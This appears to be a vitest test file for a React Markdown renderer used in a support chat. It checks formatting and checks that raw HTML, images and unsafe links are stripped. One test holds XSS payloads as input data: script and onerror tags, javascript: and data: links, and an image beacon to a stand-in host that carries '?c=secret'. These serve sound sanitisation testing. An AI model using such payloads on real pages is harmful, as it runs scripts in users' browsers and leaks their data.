import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SupportMarkdown } from "@/components/lesson/support-markdown";

const render = (text: string) => renderToStaticMarkup(createElement(SupportMarkdown, { text }));

describe("the chat's Markdown", () => {
  it("formats an answer: bold, lists, quotes", () => {
    const html = render(
      "Order **#1** is **placed**:\n\n- 2 × mug\n- 1 × kettle\n\n> Returns within 30 days.",
    );
    expect(html).toContain("<strong>#1</strong>");
    expect(html).toMatch(/<ul[^>]*>\s*<li>2 × mug<\/li>\s*<li>1 × kettle<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<blockquote[^>]*>/);
  });

  it("never renders raw HTML, loads no image, and keeps only http(s) links, opened with noopener", () => {
    const html = render(
      [
        'Hi <img src="https://evil.example/x.png?c=secret" onerror="alert(1)"> <script>alert(1)</script>',
        "",
        "![tracking pixel](https://evil.example/p.gif)",
        "",
        "[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) [home](/learn) [docs](https://ai-sdk.dev/docs)",
      ].join("\n"),
    );
    expect(html).not.toMatch(/<img|<script|onerror|javascript:|data:text/);
    expect(html).toContain("[image: tracking pixel]");
    expect(html).toContain(
      '<a href="https://ai-sdk.dev/docs" target="_blank" rel="noopener noreferrer nofollow"',
    );
    // The other links keep their text, with no address.
    expect(html).toMatch(/<span>click<\/span>/);
    expect(html).toMatch(/<span>home<\/span>/);
    expect(html.match(/<a /g)).toHaveLength(1);
  });

  it("turns headings into bold paragraphs, so an answer cannot break the page's outline", () => {
    expect(render("# Title\n\ntext")).not.toMatch(/<h1/);
  });
});
